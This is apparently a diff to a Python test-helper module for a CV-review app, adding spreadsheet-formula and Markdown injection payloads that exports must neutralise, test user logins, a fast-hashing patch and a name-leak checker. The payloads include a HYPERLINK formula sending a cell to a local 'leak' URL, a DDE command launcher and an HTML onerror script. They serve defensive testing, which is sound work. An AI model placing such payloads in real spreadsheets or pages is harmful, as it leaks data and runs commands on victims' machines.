@@ -146,3 +146,61 @@ class FakeEmbedder:
                 v = self._rng.normal(size=self.dimension)
                 self._vectors[text] = (v / np.linalg.norm(v)).astype(np.float32)
         return np.array([self._vectors[t] for t in texts], dtype=np.float32).reshape(len(texts), self.dimension)
+
+
+# Spreadsheet-formula payloads (reliability review, D08): every export must write each as inert text.
+FORMULA_PAYLOADS = ('=HYPERLINK("http://127.0.0.1:8629/leak?d="&B2,"Open CV")', "=1+1", "+1+1", "-1+1",
+                    "@SUM(1+1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=IMPORTXML("http://x/","//a")', "=2*3")
+# Markdown payloads (D14): links, images fetched from an outside URL, emphasis, Streamlit directives, shortcodes.
+MARKDOWN_PAYLOADS = ("[PHISHMARK](http://127.0.0.1:8629/md-link)", "![](http://127.0.0.1:8629/md-img.png)",
+                     "**BOLDMARK**", ":red[REDMARK]", ":rainbow-background[RAINBOW]", ":material/home: :smile:",
+                     "www.example.com me@example.com http://127.0.0.1:8629/bare", "<img src=x onerror=alert(1)>",
+                     "# heading\n- item", "`code` $x^2$ ~~gone~~ | a | b |")
+
+
+# -- users for the app tests ---------------------------------------------------------------------
+
+APP_PASSWORDS = {"admin": "admin-test-passphrase", "recruiter": "recruiter-test-passphrase",
+                 "reviewer": "reviewer-test-passphrase"}  # long, uncommon: they meet the password policy
+
+
+def cheap_hashing(monkeypatch) -> None:  # noqa: ANN001 - a pytest MonkeyPatch
+    """scrypt at N=2^10 instead of 2^17 (0.6 s a hash), and no back-off left from other tests."""
+    from evidence.services import auth
+
+    monkeypatch.setitem(auth.SCRYPT, "n", 2**10)
+    auth.THROTTLE.reset()
+
+
+def add_app_users(monkeypatch) -> dict[str, str]:  # noqa: ANN001 - a pytest MonkeyPatch
+    """admin, recruiter and reviewer (each with the role of that name) in $EVIDENCE_HOME; their passwords."""
+    from evidence.services import auth
+
+    cheap_hashing(monkeypatch)
+    for name, password in APP_PASSWORDS.items():
+        auth.add_user(name, password, name)
+    return dict(APP_PASSWORDS)
+
+
+# -- blind review (reliability review, D15) ----------------------------------------------------------------------
+
+
+def name_traces(name: str, text: str) -> list[str]:
+    """What of ``name`` shows in ``text``, accent-, case- and apostrophe-blind: each part of two letters or more
+    as a word, the whole name run together ("jobloggs"), its initials in capitals ("JB"). Empty: no trace."""
+    import re
+
+    from anyascii import anyascii
+
+    def words(s: str) -> list[str]:
+        return re.findall(r"[a-z]+", anyascii(s).lower())
+
+    found, shown = [], words(text)
+    parts = [p for p in words(name) if len(p) > 1 and p not in {"van", "der", "de"}]
+    found += [p for p in parts if p in shown]
+    if "".join(words(name)) in "".join(shown):
+        found.append("".join(words(name)))
+    initials = "".join(p[0] for p in parts).upper()
+    if len(parts) > 1 and re.search(rf"(?<![A-Za-z]){initials}(?![A-Za-z])", anyascii(text)):
+        found.append(initials)  # in capitals: "JB", not the word "do" for Daniel Okafor
+    return found
